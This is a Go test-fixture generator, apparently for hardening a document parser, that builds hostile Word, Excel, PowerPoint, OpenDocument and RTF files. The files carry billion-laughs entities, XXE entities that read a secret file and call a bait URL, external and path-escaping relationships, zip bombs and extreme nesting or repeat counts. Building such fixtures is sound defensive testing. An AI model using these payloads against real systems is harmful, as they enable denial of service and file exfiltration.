package hostile

import (
	"fmt"
	"path"
	"strings"
)

const (
	relationNS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
	relations  = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
	wordNS     = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="` + relationNS + `"`
	sheetNS    = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="` + relationNS + `"`
)

// office are files of office programs.
func office(b Bait) map[string][]byte {
	all := map[string][]byte{}
	for _, files := range []map[string][]byte{words(b), sheets(b), slides(b), openDocuments(b)} {
		for name, data := range files {
			all[name] = data
		}
	}
	return all
}

// relation is a relation of a part.
type relation struct {
	kind, target string
	external     bool
}

// openXML is a file of Microsoft Office: its main part, the relations of that,
// and other parts by turns.
func openXML(main, content string, related []relation, others ...string) []byte {
	rels := relations
	for i, r := range related {
		mode := ""
		if r.external {
			mode = ` TargetMode="External"`
		}
		rels += fmt.Sprintf(`<Relationship Id="r%d" Type="%s/%s" Target="%s"%s/>`, i+1, relationNS, r.kind, r.target, mode)
	}
	files := []string{"_rels/.rels", relations + `<Relationship Id="r1" Type="` + relationNS + `/officeDocument" Target="` + main + `"/></Relationships>`,
		main, content, path.Dir(main) + "/_rels/" + path.Base(main) + ".rels", rels + "</Relationships>"}
	for i := 0; i+1 < len(others); i += 2 {
		files = append(files, path.Dir(main)+"/"+others[i], others[i+1])
	}
	return Zip(files...)
}

func wordOf(body string) string {
	return "<w:document " + wordNS + "><w:body>" + body + "</w:body></w:document>"
}

func wordText(s string) string { return "<w:p><w:r><w:t>" + s + "</w:t></w:r></w:p>" }

// laughs declares entities that become a billion of words.
func laughs() string {
	doctype := `<!DOCTYPE a [<!ENTITY l0 "laugh ">`
	for i := range 9 {
		doctype += fmt.Sprintf(`<!ENTITY l%d "%s">`, i+1, repeat(fmt.Sprintf("&l%d;", i), 10))
	}
	return doctype + "]>"
}

// outward declares entities that stand in the secret, and on the server.
func outward(b Bait) string {
	return `<!DOCTYPE a SYSTEM "` + b.URL + `/a.dtd" [<!ENTITY x SYSTEM "` + b.file() + `"><!ENTITY y SYSTEM "` + b.URL + `/xxe"><!ENTITY % p SYSTEM "` + b.URL + `/parameter">%p;]>`
}

// both is a text with the entities of outward and laughs.
const (
	outwardText = "Before &x; and &y; after."
	laughsText  = "Before &l9; after."
)

func words(b Bait) map[string][]byte {
	word := func(body string, related []relation, others ...string) []byte {
		return openXML("word/document.xml", wordOf(body), related, others...)
	}
	external := []relation{{"attachedTemplate", b.URL + "/template.dotm", true}, {"image", b.URL + "/image.png", true}, {"subDocument", b.file(), true}, {"aFChunk", b.URL + "/chunk.html", true},
		{"footnotes", b.relative(), false}, {"styles", b.Secret, false}, {"numbering", b.file(), true}, {"hyperlink", b.URL + "/link", true}}
	styles := []relation{{"styles", "styles.xml", false}, {"numbering", "numbering.xml", false}, {"footnotes", "footnotes.xml", false}}
	return map[string][]byte{
		"laughs.docx":        openXML("word/document.xml", laughs()+wordOf(wordText(laughsText)), nil),
		"laughs-styles.docx": word(wordText("Text."), styles, "styles.xml", laughs()+"<w:styles "+wordNS+"><w:style w:styleId='&l9;'/></w:styles>"),
		"entities.docx":      openXML("word/document.xml", outward(b)+wordOf(wordText(outwardText)), nil),
		"relations.docx":     word(wordText("Text.")+`<w:altChunk r:id="r4"/><w:subDoc r:id="r3"/><w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>`, external),
		"main-outside.docx":  Zip("_rels/.rels", relations+`<Relationship Id="r1" Type="`+relationNS+`/officeDocument" Target="`+b.relative()+`"/></Relationships>`),
		"main-at-url.docx":   Zip("_rels/.rels", relations+`<Relationship Id="r1" Type="`+relationNS+`/officeDocument" TargetMode="External" Target="`+b.URL+`/document.xml"/></Relationships>`),
		"deep.docx":          word(repeat("<w:sdt><w:sdtContent>", 100_000)+wordText("Deep."), nil),
		"deep-tables.docx":   word(repeat("<w:tbl><w:tr><w:tc>", 50_000), nil),
		"spans.docx":         word("<w:tbl>"+repeat("<w:tr><w:tc><w:tcPr><w:gridSpan w:val='2000000000'/></w:tcPr>"+wordText("x")+"</w:tc></w:tr>", 50)+"</w:tbl>", nil),
		"columns.docx":       word("<w:tbl><w:tr>"+repeat("<w:tc>"+wordText("x")+"</w:tc>", 200_000)+"</w:tr></w:tbl>", nil),
		"circles.docx": word(`<w:p><w:pPr><w:pStyle w:val="A"/><w:numPr><w:ilvl w:val="999999999"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>Text</w:t><w:footnoteReference w:id="1"/></w:r></w:p>`, styles,
			"styles.xml", `<w:styles `+wordNS+`><w:style w:styleId="A"><w:name w:val="a"/><w:basedOn w:val="B"/></w:style><w:style w:styleId="B"><w:name w:val="b"/><w:basedOn w:val="A"/></w:style></w:styles>`,
			"numbering.xml", `<w:numbering `+wordNS+`><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="A"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`,
			"footnotes.xml", `<w:footnotes `+wordNS+`><w:footnote w:id="1"><w:p><w:r><w:t>note</w:t><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote></w:footnotes>`),
		"notes-many-times.docx": word("<w:p>"+repeat(`<w:r><w:footnoteReference w:id="1"/></w:r>`, 50_000)+"</w:p>", styles, "footnotes.xml", `<w:footnotes `+wordNS+`><w:footnote w:id="1">`+wordText(repeat("note ", 20_000))+`</w:footnote></w:footnotes>`),
		"bomb.docx":             Zip("_rels/.rels", relations+`<Relationship Id="r1" Type="`+relationNS+`/officeDocument" Target="word/document.xml"/></Relationships>`, "word/document.xml", wordOf(repeat(wordText("a"), 1_000_000))),
		"attributes.docx":       word("<w:p "+repeat("a='b' ", 500_000)+"/>"+wordText("Text."), nil),
		"bomb-part.docx":        zipBomb("word/document.xml", 2048),
		"old.doc":               []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + repeat("\x00", 4000)),
		"rich.rtf":              []byte(`{\rtf1` + repeat("{", 200_000) + `{\field{\*\fldinst INCLUDETEXT "` + b.Secret + `"}}` + `\bin2000000000 x}`),
	}
}

func sheets(b Bait) map[string][]byte {
	book := func(sheet, strings string) []byte {
		return openXML("xl/workbook.xml", `<workbook `+sheetNS+`><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>`,
			[]relation{{"worksheet", "worksheets/sheet1.xml", false}, {"sharedStrings", "sharedStrings.xml", false}, {"externalLink", b.URL + "/book.xlsx", true}, {"styles", b.relative(), false}},
			"worksheets/sheet1.xml", sheet, "sharedStrings.xml", strings)
	}
	rows := func(rows string) string {
		return "<worksheet " + sheetNS + "><sheetData>" + rows + "</sheetData></worksheet>"
	}
	shared := rows(repeat("<row>"+repeat(`<c t="s"><v>0</v></c>`, 200)+"</row>", 2000))
	return map[string][]byte{
		"shared.xlsx":        book(shared, "<sst><si><t>"+repeat("words and ", 100_000)+"</t></si></sst>"),
		"shared-many.xlsx":   book(rows(`<row><c t="s"><v>0</v></c></row>`), "<sst>"+repeat("<si><t/></si>", 3_000_000)+"</sst>"),
		"shared-count.xlsx":  book(rows(`<row><c t="s"><v>99999999999</v></c><c t="s"><v>-1</v></c></row>`), `<sst count="2000000000" uniqueCount="2000000000"><si><t>a</t></si></sst>`),
		"laughs.xlsx":        book(rows(`<row><c t="s"><v>0</v></c></row>`), laughs()+"<sst><si><t>"+laughsText+"</t></si></sst>"),
		"entities.xlsx":      book(outward(b)+rows(`<row><c t="inlineStr"><is><t>`+outwardText+`</t></is></c></row>`), outward(b)+"<sst><si><t>"+outwardText+"</t></si></sst>"),
		"far.xlsx":           book(rows(`<row r="1048576"><c r="XFD1048576"><v>1</v></c></row><row r="1"><c r="ZZZZZZZ1"><v>2</v></c></row><row r="99999999999999999999"><c r="A0"><v>3</v></c></row>`), "<sst/>"),
		"wide.xlsx":          book(rows(repeat(`<row><c r="XFD1"><v>1</v></c></row>`, 100_000)), "<sst/>"),
		"columns.xlsx":       book(rows("<row>"+repeat("<c><v>1</v></c>", 1_000_000)+"</row>"), "<sst/>"),
		"merges.xlsx":        book("<worksheet "+sheetNS+"><sheetData><row><c r='A1'><v>1</v></c><c r='B1'><v>x</v></c></row></sheetData><mergeCells>"+repeat(`<mergeCell ref="A1:XFD1048576"/>`, 200_000)+"</mergeCells></worksheet>", "<sst/>"),
		"many-sheets.xlsx":   openXML("xl/workbook.xml", `<workbook `+sheetNS+`><sheets>`+repeat(`<sheet name="A" sheetId="1" r:id="r1"/>`, 100_000)+`</sheets></workbook>`, []relation{{"worksheet", "worksheets/sheet1.xml", false}}, "worksheets/sheet1.xml", rows(repeat(`<row><c><v>1</v></c></row>`, 2000))),
		"sheet-outside.xlsx": openXML("xl/workbook.xml", `<workbook `+sheetNS+`><sheets><sheet name="A" r:id="r1"/><sheet name="B" r:id="r2"/></sheets></workbook>`, []relation{{"worksheet", b.relative(), false}, {"worksheet", b.URL + "/sheet.xml", true}}),
		"formats.xlsx": openXML("xl/workbook.xml", `<workbook `+sheetNS+`><sheets><sheet name="A" r:id="r1"/></sheets></workbook>`, []relation{{"worksheet", "worksheets/sheet1.xml", false}, {"styles", "styles.xml", false}},
			"worksheets/sheet1.xml", rows(repeat(`<row><c s="0"><v>1e308</v></c><c s="0"><v>-1e-308</v></c><c s="0"><v>NaN</v></c></row>`, 1000)),
			"styles.xml", `<styleSheet><numFmts><numFmt numFmtId="200" formatCode="`+repeat("[h]:mm;#,##0.00;", 2000)+repeat("0", 50_000)+`"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>`),
	}
}

func slides(b Bait) map[string][]byte {
	const ns = `xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="` + relationNS + `"`
	slide := func(before, text string) string {
		return before + `<p:sld ` + ns + `><p:cSld><p:spTree>` + text + `</p:spTree></p:cSld></p:sld>`
	}
	shape := func(text string) string {
		return `<p:sp><p:txBody><a:p><a:r><a:t>` + text + `</a:t></a:r></a:p></p:txBody></p:sp>`
	}
	show := func(list, slide string) []byte {
		return openXML("ppt/presentation.xml", `<p:presentation `+ns+`><p:sldIdLst>`+list+`</p:sldIdLst></p:presentation>`, []relation{{"slide", "slides/slide1.xml", false}, {"slide", b.relative(), false}, {"slide", b.URL + "/slide.xml", true}},
			"slides/slide1.xml", slide, "slides/_rels/slide1.xml.rels", relations+`<Relationship Id="r1" Type="`+relationNS+`/notesSlide" Target="slide1.xml"/><Relationship Id="r2" Type="`+relationNS+`/diagramData" Target="../slides/slide1.xml"/></Relationships>`)
	}
	one := `<p:sldId id="256" r:id="r1"/>`
	return map[string][]byte{
		"laughs.pptx":   show(one, slide(laughs(), shape(laughsText))),
		"entities.pptx": show(one, slide(outward(b), shape(outwardText))),
		"circle.pptx":   show(repeat(one, 20_000), slide("", shape(repeat("a slide again ", 500)))),
		"outside.pptx":  show(`<p:sldId r:id="r2"/><p:sldId r:id="r3"/>`+one, slide("", shape("Text."))),
		"deep.pptx":     show(one, slide("", repeat("<p:grpSp>", 100_000))),
	}
}

func openDocuments(b Bait) map[string][]byte {
	all := map[string][]byte{}
	document := func(before, kind, body string) string {
		const ns = "urn:oasis:names:tc:opendocument:xmlns:"
		var s strings.Builder
		s.WriteString(`<?xml version="1.0"?>` + before + "<office:document")
		for _, prefix := range []string{"office", "text", "table", "style", "draw", "presentation"} {
			s.WriteString(" xmlns:" + prefix + `="` + ns + prefix + `:1.0"`)
		}
		s.WriteString(` xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:` + kind + ">" + body + "</office:" + kind + "></office:body></office:document>")
		return s.String()
	}
	text := func(s string) string { return "<text:p>" + s + "</text:p>" }
	add := func(name, kind, content string) {
		all[name+".f"+kind] = []byte(content)
		all[name+"."+kind] = Zip("mimetype", "application/vnd.oasis.opendocument."+map[string]string{"odt": "text", "ods": "spreadsheet"}[kind], "content.xml", strings.ReplaceAll(content, "office:document", "office:document-content"))
	}
	add("laughs", "odt", document(laughs(), "text", text(laughsText)))
	add("entities", "odt", document(outward(b), "text", text(outwardText)))
	add("sections", "odt", document("", "text", `<text:section><text:section-source xlink:href="`+b.file()+`"/></text:section><draw:image xlink:href="`+b.URL+`/image.png"/>`+text(`Text <draw:object xlink:href="`+b.relative()+`"/>.`)))
	add("deep", "odt", document("", "text", repeat("<text:section>", 100_000)))
	add("spaces", "odt", document("", "text", text(repeat(`a<text:s text:c="2000000000"/>`, 1000))))
	add("repeated", "ods", document("", "spreadsheet", `<table:table>`+repeat(`<table:table-row table:number-rows-repeated="2000000000"><table:table-cell table:number-columns-repeated="2000000000">`+text("x")+`</table:table-cell></table:table-row>`, 20)+"</table:table>"))
	add("spanned", "ods", document("", "spreadsheet", `<table:table>`+repeat(`<table:table-row><table:table-cell table:number-columns-spanned="2000000000" table:number-rows-spanned="2000000000">`+text("x")+`</table:table-cell></table:table-row>`, 2000)+"</table:table>"))
	add("nested", "ods", document("", "spreadsheet", repeat("<table:table><table:table-row><table:table-cell>", 30_000)))
	return all
}
